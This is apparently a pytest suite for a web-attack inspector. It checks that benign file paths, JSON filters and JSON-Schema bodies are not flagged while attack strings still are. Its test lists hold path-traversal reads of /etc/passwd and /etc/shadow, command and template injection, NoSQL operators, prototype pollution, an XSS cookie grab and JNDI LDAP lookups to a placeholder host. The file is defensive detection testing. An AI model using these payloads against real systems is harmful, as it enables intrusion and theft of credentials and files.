"""Benign values shaped like attack syntax — file paths, Windows paths, document names, redirect paths, JSON and
filter expressions in parameters — pass at PL1, and attacks of the same shapes are still caught; JSON-Schema /
OpenAPI documents (``$schema``, ``$id``, ``$ref``, ``$defs`` keys) pass at PL1 and PL2 while NoSQL operators and
``${jndi:`` lookups next to them stay attacks (schema round, at the end).

The benign values below are written by hand for this test: none of them is in the model's training data
(checked below), and they use folder, file and key names that ``scripts/build_web_benign.py`` does not generate.
The shipped model before the shaped training values (2026-12) flagged the reported ones at PL1
(``/home/me/file.txt`` web_rce p=0.91, ``C:\\Users\\me\\Documents\\report.xlsx`` web_xss p=0.92, ``{"a": 1}``
web_rce p=0.95) and scored many of the hand-written ones 0.5 or more.
"""

from __future__ import annotations

import gzip
import json
import sys
from pathlib import Path
from urllib.parse import quote

import pytest

from fsbrain.domains.web import ml
from fsbrain.domains.web.inspector import WebInspector

REPO = Path(__file__).resolve().parents[2]

BENIGN_PATHS = [
    "/home/dmitri/projects/q4-forecast.ods",
    "/Users/hana/Library/Mobile Documents/budget.numbers",
    "/srv/reports/branch-0420/daily_summary.csv",
    "~/Desktop/scan0001.pdf",
    "/mnt/nfs/loans/2025/app-118822.pdf",
    "/home/olu/Pictures/cheque front.jpg",
    "./out/settlement-20250301.txt",
]
BENIGN_WINDOWS = [
    r"C:\Users\Priya\Documents\Tax 2024\form16.pdf",
    r"D:\Work\Clients\ACME Ltd\engagement letter.docx",
    r"G:\My Drive\receipts\uber-0311.png",
    r"C:\Users\wliu\Downloads\电子回单20250102.pdf",
    "C:/Data/exports/ledger_jan.csv",
]
BENIGN_JSON = [
    '{"status": "active", "limit": 50}',
    '{"ids": [101, 102, 103]}',
    '{"range": {"from": "2024-01-01", "to": "2024-03-31"}, "currency": "CNY"}',
    '[{"field": "created_at", "dir": "desc"}]',
    '{"q":"mortgage","page":3}',
    '{"enabled": true}',
    '{"x": 10, "y": 20}',
    '{"branch":"浦东支行","open":false}',
]
BENIGN_OTHER = [  # redirect paths, document names, filter expressions
    "/account/statements?year=2023",
    "/cards/123/limits#increase",
    "Q4 Board Pack (final).pptx",
    "2024年个人所得税汇算清缴.pdf",
    "IMG_4821.HEIC",
    "price:[10 TO 20]",
    "merchant==Costa,total=lt=30",
]
BENIGN = BENIGN_PATHS + BENIGN_WINDOWS + BENIGN_JSON + BENIGN_OTHER
# short paths: a home or working folder and a generic file name (the model scored /home/me/file.txt 0.70, PL2's
# model_block, before the GENERATED short paths of build_web_benign.build_short_paths; /home/user/file.txt 0.85,
# ~/file.txt 0.91, /home/me/test.txt 0.88). Hand-written, with user, folder and file names the generator does not use.
SHORT_PATHS = ["/tmp/report.csv", "~/Downloads/x.pdf", "/home/priya/receipts/file.txt", "/home/omar/file.doc",
               "/home/kw/taxes/data.xlsx", "~/Documents/table.csv", "/Users/ines/file.png", "~/filelist.txt",
               "/home/user/file.txt", "/home/me/test.txt", "~/file.txt", "./file.json"]
# the values the task was reported with (regressions; they are not in the training data either)
REPORTED = [r"C:\Users\me\Documents\report.xlsx", "/home/me/file.txt", '{"a": 1}', '{"status":"open"}']

ATTACKS = [  # the same shapes, as attacks: (value, a label the verdict must carry)
    ("../../etc/passwd", "web_lfi"),
    ("../../../../etc/shadow", "web_lfi"),
    (r"..\..\..\Windows\win.ini", "web_lfi"),
    (r"C:\Windows\win.ini", "web_lfi"),
    ("/etc/passwd", "web_lfi"),
    ("/proc/self/environ", "web_lfi"),
    ("/var/log/apache2/access.log", "web_lfi"),
    ("file:///etc/passwd", None),
    ('{"$where": "sleep(1000)"}', None),
    ('{"username": "admin\' --", "password": "x"}', None),
    ("/bin/sh -c id", "web_rce"),
    (";cat /etc/passwd", "web_rce"),
    ("$(cat /etc/passwd)", None),
    ("{{7*7}}", None),
    ("${7*7}", None),
    ('{"__proto__": {"isAdmin": true}}', "web_rce"),
    ('{"user": {"$ne": null}}', "web_sqli"),
    ("/var/www/html/index.php", "web_lfi"),
    ("/var/www/html/../../../etc/passwd", "web_lfi"),
    ("<script>alert(document.cookie)</script>", "web_xss"),
]


def _get(value: str, param: str = "x") -> dict:
    return {"method": "GET", "uri": f"/page?{param}=" + quote(value, safe=""),
            "headers": [["Host", "bank.example"], ["User-Agent", "Mozilla/5.0"]], "body": ""}


@pytest.fixture(scope="module")
def pl1() -> WebInspector:
    return WebInspector(paranoia=1)


def _training_values() -> set[str]:
    from urllib.parse import unquote_plus

    vals = {v for _, v in ml.shipped_training_values()}
    return vals | {unquote_plus(v) for v in vals}


def test_hand_written_values_are_not_training_data():
    seen = _training_values()
    assert not [v for v in BENIGN + REPORTED + SHORT_PATHS if v in seen]


@pytest.mark.parametrize("value", REPORTED[1:2] + SHORT_PATHS)
@pytest.mark.parametrize("paranoia", [1, 2])
def test_short_unix_paths_pass_at_pl1_and_pl2(value, paranoia):
    v = WebInspector(paranoia=paranoia).inspect(_get(value, "file"))
    assert not v["attack"], (value, v["labels"], v["rules"], v["model"][:1])
    p = ml.WebModel.load_default().score_value(value, explain=False).p_attack
    assert p < 0.5, (value, p)


def test_short_paths_in_a_json_body_and_a_message_pass_at_pl2():
    body = json.dumps({"path": "/home/me/file.txt", "message": "I saved it to ~/Downloads/x.pdf but upload fails"})
    req = {"method": "POST", "uri": "/api/v1/support/tickets", "body": body,
           "headers": [["Host", "bank.example"], ["Content-Type", "application/json"]]}
    assert not WebInspector(paranoia=2).inspect(req)["attack"]


@pytest.mark.parametrize("value", BENIGN + REPORTED)
def test_benign_shapes_pass_at_pl1(pl1, value):
    v = pl1.inspect(_get(value))
    assert not v["attack"], (value, v["labels"], v["rules"], v["model"][:1])


@pytest.mark.parametrize("value", BENIGN_PATHS + BENIGN_WINDOWS + BENIGN_JSON)
def test_model_alone_scores_benign_shapes_below_the_pl1_threshold(value):
    p = ml.WebModel.load_default().score_value(value, explain=False).p_attack
    assert p < 0.5, (value, p)


def test_benign_shapes_in_json_bodies_and_upload_names(pl1):
    body = json.dumps({"export_path": BENIGN_PATHS[0], "filter": BENIGN_JSON[2], "target": BENIGN_WINDOWS[1]})
    req = {"method": "POST", "uri": "/api/v1/exports", "body": body,
           "headers": [["Host", "bank.example"], ["Content-Type", "application/json"]]}
    assert not pl1.inspect(req)["attack"]
    b = "----x7"
    mp = (f"--{b}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{BENIGN_WINDOWS[0]}\"\r\n"
          f"Content-Type: application/pdf\r\n\r\n%PDF-1.7 ...\r\n--{b}--\r\n")
    req = {"method": "POST", "uri": "/upload", "body": mp,
           "headers": [["Host", "bank.example"], ["Content-Type", f"multipart/form-data; boundary={b}"]]}
    assert not pl1.inspect(req)["attack"]


@pytest.mark.parametrize(("value", "label"), ATTACKS)
@pytest.mark.parametrize("paranoia", [1, 2])
def test_attacks_of_the_same_shapes_are_caught(value, label, paranoia):
    v = WebInspector(paranoia=paranoia).inspect(_get(value))
    assert v["attack"], (value, v["rules"], v["model"][:1])
    if label:
        assert label in v["labels"], (value, v["labels"])


@pytest.mark.parametrize("value", ["/etc/passwd", "/proc/self/environ", "/etc/shadow", "/root/.bash_history"])
def test_the_model_does_not_clear_an_os_file_hit(pl1, value):
    """Absolute paths are benign to the model now; a sensitive OS file named by rule 610602 still counts."""
    v = pl1.inspect(_get(value, "file"))
    assert v["attack"] and 610602 in v["rules"] and 610602 not in v["suppressed_rules"], v


def test_var_log_is_an_lfi_rule_hit_not_a_model_rce(pl1):
    """``/var/log/...`` in a parameter is a classic LFI target (log poisoning; CRS v4 930120 lists ``var/log`` too):
    the OS-file rule keeps it; the model no longer adds an RCE verdict to it."""
    v = pl1.inspect(_get("/var/log/app.log"))
    assert v["attack"] and v["labels"] == ["web_lfi"], v


@pytest.mark.parametrize("value", ["25--", "417--", "9--"])
@pytest.mark.parametrize("paranoia", [1, 2])
def test_a_number_ending_in_a_sql_comment_is_not_cleared(value, paranoia):
    """Rule 610305 sees the comment; the model sees only digits (``0--``) and must not clear the hit."""
    v = WebInspector(paranoia=paranoia).inspect(_get(value, "id"))
    assert v["attack"] and "web_sqli" in v["labels"], v


def test_plain_sql_spelling():
    assert ml.plain_sql_spelling("1--") and ml.plain_sql_spelling("@@version")
    assert not ml.plain_sql_spelling("2019-05-01") and not ml.plain_sql_spelling("1' --")
    assert not ml.plain_sql_spelling("a" * 300 + "--")  # not plain: too long for the shortcut


def test_generated_shapes_carry_no_attack_markers():
    """The generator's shaped values (the end of benign_train: shaped values, short paths, then JSON-Schema /
    OpenAPI documents) never spell what the attack shapes are made of. The JSON-Schema requests carry ``$`` keys
    and ``http`` URLs, which ``_SHAPE_FORBIDDEN`` forbids: ``schema_clean`` takes out exactly the JSON-Schema
    keywords (``$schema``, ``$ref``, ...) and the schema URLs, and what is left of their keys and values must pass
    the same check (no ``$ne``, ``$where``, ``${``, ``..``)."""
    sys.path.insert(0, str(REPO / "scripts"))
    import build_web_benign as gen

    with gzip.open(ml.DATA_DIR / "benign_train.jsonl.gz", "rt", encoding="utf-8") as f:
        reqs = [json.loads(line) for line in f]
    end_shaped = gen.BASE_TRAIN + gen.SHAPES_TRAIN + gen.SHORT_TRAIN
    assert len(reqs) == end_shaped + gen.SCHEMA_TRAIN
    shaped, schemas = reqs[gen.BASE_TRAIN:end_shaped], reqs[end_shaped:]
    from urllib.parse import unquote_plus

    def markers(text: str) -> list[str]:
        low = text.lower()
        return [f for f in gen._SHAPE_FORBIDDEN if f in low]

    for r in shaped:
        for name, v in ml.request_params(r):
            if name.startswith(("ARGS", "FILES", "json")) and not name.endswith(":name"):
                assert not markers(unquote_plus(v)), (name, v)
    # the cleaning takes out schema keywords and URLs only: operators, lookups and traversals stay visible
    for attack in ('{"$ne": null}', '{"$where": "1"}', '{"$schema": "x", "$gt": ""}', "${jndi:ldap://x/a}", "$(id)",
                   "#/$defs/../../etc", "https://json-schema.org/draft/2020-12/schema/../../x", "javascript:$ref"):
        assert markers(gen.schema_clean(attack)), attack
    with_keyword = 0
    for r in schemas:
        values = [unquote_plus(v) for name, v in ml.request_params(r) if name.startswith(("ARGS", "FILES", "json"))]
        with_keyword += any(kw in v for v in values for kw in gen._SCHEMA_KEYWORDS)
        for v in values:  # keys (``json.$schema:name``) as well as values
            assert not markers(gen.schema_clean(v)), (r["uri"], v)
    assert with_keyword == len(schemas)  # every one of them is a schema request (the split point is right)


# JSON-Schema / OpenAPI documents (schema round). Before the GENERATED schema requests of
# build_web_benign.build_schemas the shipped model scored the JSON key ``$schema`` 0.79 (``$id`` 0.58, the draft-07
# URL ``http://json-schema.org/draft-07/schema#`` 0.76): a JSON body naming its schema was an attack at PL2
# (model_block 0.7), and at PL2 rule 610310 (``"#``: a quote before a SQL comment) fired on ``"#/$defs/..."`` in a
# query or form value without the model clearing it (0.41). Hand-written: ids, titles and property names the
# generator does not use, and keywords it never writes (maxLength, minimum, maximum, additionalProperties).
SCHEMA_2020 = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "$id": "https://payments.example.net/schemas/standing-order.json",
    "title": "StandingOrder", "type": "object", "required": ["debtorIban", "frequency"],
    "properties": {"debtorIban": {"type": "string", "maxLength": 34},
                   "frequency": {"enum": ["weekly", "fortnightly", "yearly"]},
                   "firstRun": {"type": "string", "format": "date"},
                   "amount": {"type": "number", "minimum": 0.01},
                   "counterparty": {"$ref": "#/$defs/Counterparty"}},
    "$defs": {"Counterparty": {"type": "object", "additionalProperties": False,
                               "properties": {"nickname": {"type": "string"}}}},
}
SCHEMA_DRAFT07 = {"$schema": "http://json-schema.org/draft-07/schema#", "$id": "urn:example:standing-order",
                  "definitions": {"executionDay": {"type": "integer", "minimum": 1, "maximum": 28}},
                  "properties": {"day": {"$ref": "#/definitions/executionDay"}}}
SCHEMA_INSTANCE = {"$schema": "https://payments.example.net/schemas/standing-order.json",
                   "debtorIban": "DE89370400440532013000", "frequency": "yearly", "firstRun": "2025-07-01"}
SCHEMA_DOCS = [SCHEMA_2020, SCHEMA_DRAFT07, SCHEMA_INSTANCE]
_SEPARATORS = [(", ", ": "), (",", ":")]
# NoSQL operators and lookups next to the schema keywords: still attacks (rules 610313/610314/610900, which
# the model cannot clear or does not try to; the model alone scores ``{"$where": "sleep(5000)"}``'s value 0.99)
NOSQL_BODIES = [{"user": {"$ne": None}, "pass": {"$ne": None}}, {"$where": "sleep(5000)"},
                {"$schema": "https://json-schema.org/draft/2020-12/schema", "$where": "sleep(5000)"},
                {"$schema": "https://json-schema.org/draft/2020-12/schema", "login": {"$gt": ""}}]
LOOKUP_BODIES = [{"name": "${jndi:ldap://x/a}"},
                 {"$schema": "https://json-schema.org/draft/2020-12/schema", "title": "${jndi:ldap://x/a}"}]


def _json_post(doc: object, sep: tuple[str, str] = (", ", ": ")) -> dict:
    return {"method": "POST", "uri": "/api/v1/payment-templates", "body": json.dumps(doc, separators=sep),
            "headers": [["Host", "bank.example"], ["Content-Type", "application/json"]]}


def test_schema_documents_are_not_training_data():
    seen = _training_values()
    texts = [json.dumps(d, separators=s) for d in SCHEMA_DOCS for s in _SEPARATORS]
    names = ["https://payments.example.net/schemas/standing-order.json", "urn:example:standing-order",
             "StandingOrder", "debtorIban", "#/$defs/Counterparty", "#/definitions/executionDay"]
    assert not [v for v in texts + names if v in seen]


@pytest.mark.parametrize("sep", _SEPARATORS)
@pytest.mark.parametrize("doc", SCHEMA_DOCS, ids=["2020-12", "draft-07", "instance"])
@pytest.mark.parametrize("paranoia", [1, 2])
def test_json_schema_documents_pass_as_json_body_and_query_parameter(paranoia, doc, sep):
    insp = WebInspector(paranoia=paranoia)
    text = json.dumps(doc, separators=sep)
    for req in (_json_post(doc, sep), _get(text, "schema")):
        v = insp.inspect(req)
        assert not v["attack"], (req["uri"], v["rules"], v["model"][:2])


@pytest.mark.parametrize("key", ["$schema", "$id", "$ref", "$defs"])
def test_model_scores_json_schema_keywords_below_pl2s_threshold(key):
    # $schema 0.79 -> 0.23 and $ref 0.34 -> 0.24 with the schema requests; $id 0.58 -> 0.51: still >= 0.5, so it adds
    # points to a borderline rule hit and alone it reaches PL4's model_block (0.5), but not PL3's (0.6) or below
    p = ml.WebModel.load_default().score_value(key, explain=False).p_attack
    assert p < 0.6, (key, p)
    if key != "$id":
        assert p < 0.5, (key, p)


@pytest.mark.parametrize("doc", NOSQL_BODIES)
@pytest.mark.parametrize("paranoia", [1, 2])
def test_nosql_operators_in_json_bodies_are_still_attacks(paranoia, doc):
    insp = WebInspector(paranoia=paranoia)
    for req in (_json_post(doc), _get(json.dumps(doc, separators=(",", ":")), "filter")):
        v = insp.inspect(req)
        assert v["attack"] and "web_sqli" in v["labels"], (req["uri"], v["rules"], v["model"][:2])


@pytest.mark.parametrize("paranoia", [1, 2])
def test_jndi_lookups_are_still_attacks(paranoia):
    insp = WebInspector(paranoia=paranoia)
    reqs = [_json_post(doc) for doc in LOOKUP_BODIES] + [_get("${jndi:ldap://x/a}", "schema")]
    for req in reqs:
        v = insp.inspect(req)
        assert v["attack"] and "web_java" in v["labels"], (req["uri"], v["rules"], v["model"][:2])
